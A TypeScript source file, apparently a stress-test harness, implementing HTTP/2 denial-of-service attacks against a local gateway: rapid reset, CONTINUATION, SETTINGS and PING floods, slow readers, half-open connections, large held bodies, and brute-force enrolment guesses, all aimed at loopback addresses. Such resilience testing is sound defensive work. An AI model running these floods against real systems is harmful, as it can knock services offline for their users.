import { once } from 'node:events';
import type { ClientHttp2Session } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import { END_HEADERS, END_STREAM, frame, frameTypes, PREFACE, requestBlock, unknownField } from './frames.ts';

/** What a laptop in wrong hands, or a stranger, can reach. */
export interface Target {
  readonly ports: { readonly gateway: number; readonly enrolment: number };
  /** TLS to the gateway with the laptop's certificate. */
  dial(): Promise<TLSSocket>;
  session(): Promise<ClientHttp2Session>;
  /** A guess at a laptop's code, from a loopback address. */
  guess(from: string): Promise<unknown>;
  over(): boolean;
}
type Attack = (target: Target) => Promise<void>;

const SESSIONS = 8;
const BODY_BYTES = 8 * 1024 * 1024;
/** What one write carries, so that frames and not calls are what is sent. */
const FRAMES_A_WRITE = 200;

export const attacks: Readonly<Record<string, Attack>> = {
  'rapid reset': flood((stream) =>
    Buffer.concat([
      frame(frameTypes.headers, END_HEADERS | END_STREAM, stream, requestBlock('GET', '/v1/device/trust')),
      frame(frameTypes.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
    ]),
  ),
  CONTINUATION: flood(
    () => frame(frameTypes.continuation, 0, 1, unknownField('x-a', 'a'.repeat(100))),
    frame(frameTypes.headers, END_STREAM, 1, requestBlock('GET', '/v1/device/trust')),
  ),
  SETTINGS: flood(() => frame(frameTypes.settings, 0, 0)),
  PING: flood(() => frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  'slow readers': (target) =>
    each(SESSIONS, async () => {
      const socket = await opened(target, Buffer.from([0, 4, 0, 0, 0, 0])); // SETTINGS_INITIAL_WINDOW_SIZE 0
      for (let stream = 1; stream < 200; stream += 2)
        socket.write(frame(frameTypes.headers, END_HEADERS | END_STREAM, stream, requestBlock('GET', '/v1/device/trust')));
      while (!target.over() && !socket.destroyed) await delay(50);
      socket.destroy();
    }),
  'half-open': async (target) => {
    const sockets: Socket[] = [];
    while (!target.over()) {
      if (sockets.length < 2000) sockets.push(connect(target.ports.gateway, '127.0.0.1').on('error', () => {}));
      await delay(1);
    }
    for (const socket of sockets) socket.destroy();
  },
  'bodies of 8 MiB': (target) =>
    each(SESSIONS, async () => {
      const session = await target.session();
      await each(SESSIONS, async () => {
        const stream = session.request({ ':method': 'POST', ':path': '/v1/device/unsent' }, { endStream: false });
        stream.on('error', () => {}).setMaxListeners(0);
        for (let sent = 0; sent < BODY_BYTES && !stream.destroyed && !target.over(); sent += 65_536) {
          if (!stream.write(Buffer.alloc(65_536, 0x20))) await Promise.race([once(stream, 'drain'), once(stream, 'close'), delay(1000)]);
        }
        while (!target.over()) await delay(50);
        stream.destroy();
      });
      session.destroy();
    }),
  'enrolment guesses': (target) =>
    each(32, async (index) => {
      for (let host = 1; !target.over(); host = (host % 250) + 1) await target.guess(`127.1.${index}.${host}`).catch(() => delay(5));
    }),
};

const each = async (count: number, work: (index: number) => Promise<void>): Promise<void> => {
  await Promise.all(Array.from({ length: count }, (_, index) => work(index).catch(() => {})));
};

const opened = async (target: Target, settings: Uint8Array = new Uint8Array()): Promise<TLSSocket> => {
  const socket = await target.dial();
  socket.resume();
  socket.write(Buffer.concat([PREFACE, frame(frameTypes.settings, 0, 0, settings)]));
  return socket;
};

/** Sends frames as fast as they are taken, over eight connections, and connects anew when HQ has had enough of one. */
function flood(next: (stream: number) => Buffer, first?: Buffer): Attack {
  return (target) =>
    each(SESSIONS, async () => {
      while (!target.over()) {
        const socket = await opened(target).catch(() => delay(20).then(() => undefined));
        if (socket === undefined) continue;
        if (first !== undefined) socket.write(first);
        for (let stream = 1; !target.over() && !socket.destroyed && stream < 2 ** 31 - 2 * FRAMES_A_WRITE; ) {
          const frames: Buffer[] = [];
          for (let count = 0; count < FRAMES_A_WRITE; count += 1, stream += 2) frames.push(next(stream));
          if (!socket.write(Buffer.concat(frames))) await Promise.race([once(socket, 'drain'), once(socket, 'close'), delay(500)]);
          await delay(0);
        }
        socket.destroy();
      }
    });
}
